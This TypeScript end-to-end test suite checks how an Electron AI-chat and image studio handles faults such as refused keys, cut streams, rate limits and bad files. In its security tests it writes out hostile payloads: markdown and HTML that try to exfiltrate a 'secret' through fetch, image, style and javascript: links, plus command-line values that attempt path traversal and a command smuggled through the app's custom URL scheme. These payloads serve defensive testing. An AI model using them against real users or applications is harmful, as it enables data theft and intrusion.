import { spawn } from 'node:child_process'
import { createServer, type Server } from 'node:http'
import { mkdtemp } from 'node:fs/promises'
import type { AddressInfo } from 'node:net'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import type { RouteRequest } from '@shared/contracts/routes'
import type { Locator, Page } from 'playwright'
import { afterAll, afterEach, beforeAll, describe, expect, inject, it } from 'vitest'
import { writeBadFiles, writeScripted } from './harness/bad-files'
import { dropFiles, dropLink, holdFiles } from './harness/dropped-files'
import { startTestGateway, type TestGateway } from './harness/gateway'
import { launchStudio, type Studio } from './harness/launch'
import { call, connectTo, until, untilTask } from './harness/studio-page'

const CHAT = '/v1/chat/completions'

let gateway: TestGateway
let studio: Studio
let page: Page
let folder: string

beforeAll(async () => {
  gateway = await startTestGateway()
  folder = await mkdtemp(join(tmpdir(), 'studio-faults-'))
  studio = await launchStudio(inject('launch'), { args: ['--password-store=basic'] })
  page = studio.window
})

afterAll(async () => {
  await studio.close()
  await gateway.close()
})

afterEach(async () => gateway.control('DELETE', 'faults').catch(() => undefined))

describe('a system without a key store', () => {
  it('is told so before a key is kept, and nothing is called encrypted', async () => {
    await page.getByLabel('Your ChainHub key').fill('sk-not-yet-kept')
    await page.getByText('This system offers no encrypted key store').waitFor()
    expect(await page.getByRole('radio', { name: /Keep it until the studio closes/ }).isChecked()).toBe(true)
    await connectTo(page, gateway)
    await page.getByRole('navigation').first().waitFor()
    expect((await call(page, 'account.state')).profiles.find(({ isActive }) => isActive)?.protection).toBe('plain')
  })
})

describe('in a talk', () => {
  it('a refused key: said in the talk and in the status bar, the question stays, and the next try works', async () => {
    await fault(CHAT, { kind: 'status', status: 401, body: newApiError('invalid token', '') })
    await newChat()
    await ask('Is the key good?')
    const alert = page.getByRole('alert')
    await alert.getByText(/does not accept this key/).waitFor()
    await alert.getByText('You were not charged.').waitFor()
    await alert.getByRole('button', { name: 'Open settings' }).waitFor()
    await status('Key refused')
    await page.getByRole('button', { name: 'Answer again' }).click()
    await answerState('complete')
    await status('Connected')
    expect(await page.getByText('Is the key good?').first().isVisible()).toBe(true)
  })

  it('no balance: the sums and the way out', async () => {
    const message = '用户额度不足, 剩余额度: $0.010000, 需要预扣费额度: $0.250000'
    await fault(CHAT, { kind: 'status', status: 403, body: newApiError(message, 'insufficient_user_quota') })
    await newChat()
    await ask('One more?')
    await page.getByRole('alert').getByRole('button', { name: 'Top up the balance' }).waitFor()
    expect(await page.getByRole('alert').innerText()).toContain('balance is too low for this: $0.01 left, $0.25 needed')
  })

  it('a cut stream: what arrived stays, is marked, and can be gone on with', async () => {
    const sent = await gateway.countOf(`POST ${CHAT}`)
    await fault(CHAT, { kind: 'cut', afterBytes: 1_500, clean: true })
    await newChat()
    await ask('Tell me of the heron')
    await answerState('truncated')
    const answer = page.getByRole('article', { name: /^Answer/ }).last()
    await answer.getByRole('button', { name: 'Continue' }).waitFor()
    expect((await answer.innerText()).length).toBeGreaterThan(60)
    expect(await gateway.countOf(`POST ${CHAT}`)).toBe(sent + 1)
  })

  it('two presses in one frame are one question and one charge', async () => {
    const before = (await gateway.charges()).length
    await newChat()
    const composer = page.getByRole('textbox', { name: 'Message' })
    await composer.fill('Pressed twice')
    await composer.evaluate((area) => {
      const press = (): unknown =>
        area.dispatchEvent(new KeyboardEvent('keydown', { key: 'Enter', bubbles: true, cancelable: true }))
      press()
      press()
    })
    await answerState('complete')
    expect(await page.getByRole('article', { name: 'You' }).count()).toBe(1)
    expect((await gateway.charges()).length).toBe(before + 1)
  })

  it('a prompt of a megabyte is sent, kept and shown folded', async () => {
    await newChat()
    await ask('word '.repeat(200_000))
    await answerState('complete')
    const [chat] = await call(page, 'chat.list', {})
    const detail = await call(page, 'chat.open', { conversationId: chat?.id ?? '' })
    const text = detail.messages[0]?.parts.map((part) => (part.kind === 'text' ? part.text : '')).join('')
    expect(text?.length).toBeGreaterThan(999_990)
  })

  it('nothing to say cannot be sent, and the button says why', async () => {
    await newChat()
    await page.getByRole('textbox', { name: 'Message' }).fill('   ')
    const send = page.getByRole('button', { name: 'Send' })
    expect(await send.getAttribute('aria-disabled')).toBe('true')
    await send.hover()
    await page.getByText('Write something first.').first().waitFor()
  })

  it('hostile markdown asks nobody for anything, and a link shows where it leads before it opens', async () => {
    const trap = await startTrap()
    const asked: string[] = []
    page.on('request', (request) => asked.push(request.url()))
    await studio.app.evaluate(({ dialog, shell }) => {
      const seen: unknown[] = []
      Object.assign(globalThis, { seen })
      dialog.showMessageBox = async (...args: unknown[]) => {
        seen.push(args.at(-1))
        return { response: 1, checkboxChecked: false }
      }
      shell.openExternal = async (url) => void seen.push(url)
    })
    await fault(CHAT, { kind: 'body', contentType: 'text/event-stream', body: streamOf(hostileAnswer(trap.origin)) })
    await newChat()
    await ask('What is on that page?')
    await answerState('complete')
    await page.getByText('the end of the trap').waitFor()
    const link = page.getByRole('article', { name: /^Answer/ }).getByText('my bank')
    await link.click()
    const seen = await until(
      'the question about the link',
      () => studio.app.evaluate(() => Reflect.get(globalThis, 'seen') as { detail?: string }[]),
      (calls) => calls.length > 0,
    )
    expect(seen).toMatchObject([{ detail: 'https://evil.example/login' }])
    expect(asked.filter((url) => !/^(app|media|blob|data):/.test(url))).toEqual([])
    expect(trap.hits).toEqual([])
    expect(studio.app.windows().every((window) => window.url().startsWith('app://'))).toBe(true)
    trap.server.close()
  })
})

describe('in the queue', () => {
  it('refused content: who refused, and that it cost nothing', async () => {
    const task = await submit(picture('demo:blocked a forbidden thing'))
    await untilTask(page, task.id, 'failed')
    const row = await rowOf('demo:blocked a forbidden thing')
    await row.getByText(/content filter refused this/i).waitFor()
    expect(await row.innerText()).toContain('You were not charged.')
  })

  it('too many requests: says that it waits, then goes through with one charge', async () => {
    const before = (await gateway.charges()).length
    await fault('/v1/images', {
      kind: 'status',
      status: 429,
      headers: { 'retry-after': '3' },
      body: newApiError('slow down', ''),
    })
    const task = await submit(picture('a picture that waits'))
    const row = await rowOf('a picture that waits')
    await row.getByText(/asks to wait.*tried again by itself/).waitFor()
    await untilTask(page, task.id, 'succeeded')
    expect((await gateway.charges()).length).toBe(before + 1)
  })

  it('a fault after the request went out: maybe charged, with the amount, never sent again', async () => {
    const sent = await gateway.countOf('POST /v1/images/generations')
    await fault('/v1/images', { kind: 'status', status: 502, body: '<html><title>Bad gateway</title></html>' }, false)
    const task = await submit(picture('a picture behind a fault'))
    await untilTask(page, task.id, 'unknown')
    const row = await rowOf('a picture behind a fault')
    await row.getByText(/may have been accepted and charged \(.*\$/).waitFor()
    await row.getByRole('button', { name: 'Look it up' }).waitFor()
    expect(await gateway.countOf('POST /v1/images/generations')).toBe(sent + 1)
    await row.getByRole('button', { name: 'Give it up' }).click()
    await untilTask(page, task.id, 'failed', 'canceled')
  })

  it.each([
    ['expired', /link to this result is no longer valid/],
    ['html-as-png', /web page/i],
    ['zero-bytes', /empty/i],
  ])('a result that is %s is no item of the library, and the row says why', async (trouble, words) => {
    const items = (await call(page, 'library.buckets', { filter: {} })).total
    await gateway.control('POST', 'faults', {
      match: { pathPrefix: '/files/' },
      times: 0,
      effect: { kind: 'link', trouble },
    })
    const prompt = `a result that is ${trouble}`
    const task = await submit(picture(prompt))
    await untilTask(page, task.id, 'failed')
    const row = await rowOf(prompt)
    await row.getByText(words).first().waitFor()
    await row.getByText(/You (were|may have been) charged/).waitFor()
    expect((await call(page, 'library.buckets', { filter: {} })).total).toBe(items)
  })

  it('a double click on Retry is one new task', async () => {
    const prompt = 'demo:blocked and retried'
    await untilTask(page, (await submit(picture(prompt))).id, 'failed')
    const row = await rowOf(prompt)
    await row.getByRole('button', { name: 'Retry' }).dblclick()
    const alike = async (): Promise<number> =>
      (await call(page, 'task.list', { limit: 200 })).tasks.filter((task) => task.prompt === prompt).length
    await until('the new task', alike, (count) => count > 1)
    await page
      .getByRole('listitem', { name: new RegExp(`^${prompt}`) })
      .nth(1)
      .waitFor()
    expect(await alike()).toBe(2)
  })

  it('a state that nobody knows counts as work, can be given up, and its result lands all the same', async () => {
    const effect = { kind: 'task', outcome: 'status-word', word: 'rearranging' }
    await fault('/v1/video/create', effect)
    const prompt = 'a clip in a strange state'
    const task = await submit({
      ...picture(prompt),
      operationId: 'grok.video.create',
      modelId: 'grok-video-3',
      params: { prompt, aspect_ratio: '3:2', size: '720P' },
    })
    await until(
      'the word',
      () => call(page, 'task.get', { taskId: task.id }),
      (now) => now.remoteStatus === 'rearranging',
    )
    const row = await rowOf(prompt)
    await row.getByText(/usually|longer than usual/).waitFor()
    await row.getByRole('button', { name: 'Cancel' }).waitFor()
    const { tasks } = await gateway.control<{ tasks: { id: string; prompt?: string }[] }>('GET', 'tasks')
    await gateway.control('POST', `tasks/${tasks.at(-1)?.id ?? ''}`, { do: 'finish' })
    expect((await untilTask(page, task.id, 'succeeded')).outputs[0]?.state).toBe('stored')
  })

  it('a form without a prompt is not sent, whoever asks', async () => {
    await expect(submit(picture(' '))).rejects.toThrow(/not-ready|bad-parameter/)
  })
})

describe('on the window', () => {
  it('bad files are refused by name and reason before anything decodes them', async () => {
    const items = (await call(page, 'library.buckets', { filter: {} })).total
    const files = await writeBadFiles(folder)
    await openView('Library')
    await page.getByRole('searchbox', { name: 'Search the library' }).waitFor()
    for (const [name, words] of [
      ['huge.png', /50.?000/],
      ['empty.png', /empty/],
      ['half.png', /incomplete|cut off|damaged|end is missing/],
      ['page.png', /web page/],
      ['tool.png', /of the kind EXE/],
    ] as const) {
      await dropFiles(page, [files[name] ?? ''])
      await page.locator('[role$=dialog]').filter({ hasText: name }).filter({ hasText: words }).first().waitFor()
      await page.locator('[aria-label="Dismiss"]').first().click()
    }
    expect((await call(page, 'library.buckets', { filter: {} })).total).toBe(items)
  })

  it('pictures and papers with scripts run nothing and ask nobody, and bombs take nothing down', async () => {
    const trap = await startTrap()
    const noticed: string[] = []
    const onRequest = (request: { url: () => string }): void => void noticed.push(request.url())
    const onDialog = (dialog: { message: () => string }): void => void noticed.push(`dialog ${dialog.message()}`)
    page.on('request', onRequest).on('dialog', onDialog)
    const files = await writeScripted(join(folder, 'scripted'), trap.origin)
    await dropFiles(page, files)
    await page
      .locator('[role$=dialog]')
      .filter({ hasText: 'page.html' })
      .filter({ hasText: 'web page' })
      .first()
      .waitFor()
    await page.locator('[aria-label="Dismiss"]').first().click()
    const titles = ['drawing', 'page within', 'ten thousand frames', 'a gigabyte', 'thirty-six million', 'after them']
    const cards = await until(
      'small pictures of all that can have one',
      async () => (await call(page, 'library.page', { filter: {}, limit: 50 })).cards,
      (all) =>
        [...titles, 'paper'].every((title) =>
          all.some((card) => card.title === title && !['pending', undefined].includes(card.thumbnail)),
        ),
    )
    const stateOf = (title: string): string | undefined => cards.find((card) => card.title === title)?.thumbnail
    expect(['drawing', 'ten thousand frames', 'after them'].map(stateOf)).toEqual(['ready', 'ready', 'ready'])

    const viewer = page.getByRole('group', { name: 'Viewer' })
    const search = page.getByRole('searchbox', { name: 'Search the library' })
    for (const [title, shown] of [
      ['drawing', viewer.getByRole('img', { name: 'drawing' })],
      ['page within', viewer.getByRole('img', { name: 'page within' })],
      ['paper', viewer.getByText('A PDF document.')],
    ] as const) {
      await search.fill(title)
      await page.getByRole('gridcell').nth(1).waitFor({ state: 'detached' })
      await page.getByRole('gridcell', { name: new RegExp(title) }).click()
      await page.keyboard.press('Space')
      await shown.waitFor()
      await page.keyboard.press('Space')
      await viewer.waitFor({ state: 'detached' })
    }
    await search.fill('')
    expect(noticed.filter((url) => !/^(app|media|blob|data):/.test(url))).toEqual([])
    expect(trap.hits).toEqual([])
    expect(studio.app.windows().every((window) => window.url().startsWith('app://'))).toBe(true)
    page.off('request', onRequest).off('dialog', onDialog)
    trap.server.close()
  })

  it('a file of a wrong kind is refused while it is still held over the window', async () => {
    const letGo = await holdFiles(page, [join(folder, 'tool.exe')])
    const words = page.getByText(/The library takes pictures, clips/)
    await words.waitFor()
    await letGo()
    await words.waitFor({ state: 'detached' })
    expect(page.url()).toMatch(/^app:/)
  })

  it('a dropped link into the private network is refused in words, and the window stays', async () => {
    const trap = await startTrap()
    const before = page.url()
    await dropLink(page, `${trap.origin}/secret.png`)
    const notice = page.locator('[role$=dialog]').filter({ hasText: /private|this computer/ })
    await notice.first().waitFor()
    expect(page.url()).toBe(before)
    expect(trap.hits).toEqual([])
    trap.server.close()
  })

  it('a second start with hostile words on its command line opens nothing and sends nothing', async () => {
    const sent = (await gateway.control<{ total: number }>('GET', 'requests')).total
    const { electronPath, argsBeforeApp, env } = inject('launch')
    const words = [
      'chainhub-studio://run?command=calc&key=sk-x',
      'app://open/../../etc/passwd',
      '--inspect=0',
      'javascript:alert(1)',
    ]
    const second = spawn(
      electronPath,
      [...argsBeforeApp, process.cwd(), `--user-data-dir=${studio.userDataDir}`, ...words],
      {
        env: { ...process.env, ...env },
        stdio: 'ignore',
      },
    )
    await new Promise((resolve) => second.once('exit', resolve))
    const urls = await studio.app.evaluate(({ BrowserWindow }) =>
      BrowserWindow.getAllWindows().map(({ webContents }) => webContents.getURL()),
    )
    expect(urls.every((url) => url.startsWith('app://'))).toBe(true)
    expect((await gateway.control<{ total: number }>('GET', 'requests')).total).toBe(sent)
    await page.getByRole('searchbox', { name: 'Search the library' }).waitFor()
  })

  it('writes no error to the console while all this goes wrong', () => {
    expect(studio.consoleErrors()).toEqual([])
  })
})

describe('a start without a network', () => {
  it('says so, shows the library, takes work and keeps it', async () => {
    const { userDataDir } = studio
    await studio.kill9()
    await gateway.close()
    studio = await launchStudio(inject('launch'), { userDataDir, args: ['--password-store=basic'] })
    page = studio.window
    await status('Offline')
    await openView('Library')
    await page.getByRole('gridcell').first().waitFor()
    const task = await submit(picture('a picture for later'))
    const row = await rowOf('a picture for later')
    await row.getByText(/Nothing answers at the server.*tried again by itself/).waitFor()
    expect((await call(page, 'task.get', { taskId: task.id })).state).toBe('queued')
    await newChat()
    await ask('Anybody there?')
    await page
      .getByRole('alert')
      .getByText(/Nothing answers at the server/)
      .waitFor()
    await page.getByText('Anybody there?').first().waitFor()
  })
})

const picture = (prompt: string): RouteRequest<'generation.submit'> => ({
  clientRequestId: crypto.randomUUID(),
  operationId: 'openai-images.flux.generate',
  modelId: 'flux-kontext-pro',
  params: { prompt },
  origin: { kind: 'create' },
})

const submit = (request: RouteRequest<'generation.submit'>): ReturnType<typeof call<'generation.submit'>> =>
  call(page, 'generation.submit', request)

async function fault(pathPrefix: string, effect: object, before?: boolean): Promise<void> {
  await gateway.control('POST', 'faults', {
    match: { method: 'POST', pathPrefix },
    effect,
    ...(before === undefined ? {} : { before }),
  })
}

const newApiError = (message: string, code: string): object => ({ error: { message, type: 'new_api_error', code } })

const openView = (name: string): Promise<void> =>
  page
    .getByRole('navigation')
    .first()
    .getByRole('button', { name: new RegExp(`^${name}`) })
    .click()

async function newChat(): Promise<void> {
  await openView('Chat')
  await page.getByRole('button', { name: 'New chat' }).first().click()
  await page.getByRole('article').first().waitFor({ state: 'detached' })
}

async function ask(text: string): Promise<void> {
  const composer = page.getByRole('textbox', { name: 'Message' })
  await composer.fill(text)
  await composer.press('Enter')
}

const answerState = (state: string): Promise<void> =>
  page.locator(`article[data-state="${state}"][aria-label^="Answer"]`).last().waitFor()

const status = (word: string): Promise<void> => page.getByRole('contentinfo').getByText(word).waitFor()

async function rowOf(prompt: string): Promise<Locator> {
  await openView('Queue')
  const row = page.getByRole('listitem', { name: new RegExp(`^${prompt}`) })
  await row.waitFor()
  return row
}

interface Trap {
  readonly origin: string
  readonly hits: readonly string[]
  readonly server: Server
}

/** A server that nobody may ask. */
async function startTrap(): Promise<Trap> {
  const hits: string[] = []
  const server = createServer((request, response) => {
    hits.push(request.url ?? '')
    response.end()
  })
  await new Promise<void>((resolve) => void server.listen(0, '127.0.0.1', resolve))
  return { origin: `http://127.0.0.1:${(server.address() as AddressInfo).port}`, hits, server }
}

const hostileAnswer = (origin: string): string =>
  [
    `![](${origin}/a?q=secret)`,
    `![b][1]\n\n[1]: ${origin}/b`,
    `<img src="${origin}/c"><link rel="stylesheet" href="${origin}/d"><iframe src="${origin}/e"></iframe>`,
    `<style>@import "${origin}/f"; p { background: url(${origin}/g) }</style>`,
    `<img src=x onerror="fetch('${origin}/h')"><script>fetch('${origin}/i')</script>`,
    `$\\includegraphics{${origin}/j}$`,
    `\`\`\`mermaid\ngraph TD; A-->B; click A "${origin}/k"\n\`\`\``,
    `\`\`\`html\n<img src="${origin}/l">\n\`\`\``,
    `[run](javascript:fetch('${origin}/m')) [file](file:///etc/passwd) [app](chainhub-studio://run)`,
    `| a |\n|---|\n| ![](${origin}/n) |`,
    '[my bank](https://evil.example/login)',
    'the end of the trap',
  ].join('\n\n')

function streamOf(text: string): string {
  const chunks = text.match(/[^]{1,23}/g) ?? []
  const event = (delta: object, finish: string | null): string =>
    `data: ${JSON.stringify({ id: 'x', object: 'chat.completion.chunk', choices: [{ index: 0, delta, finish_reason: finish }] })}\n\n`
  return `${chunks.map((content) => event({ content }, null)).join('')}${event({}, 'stop')}data: [DONE]\n\n`
}
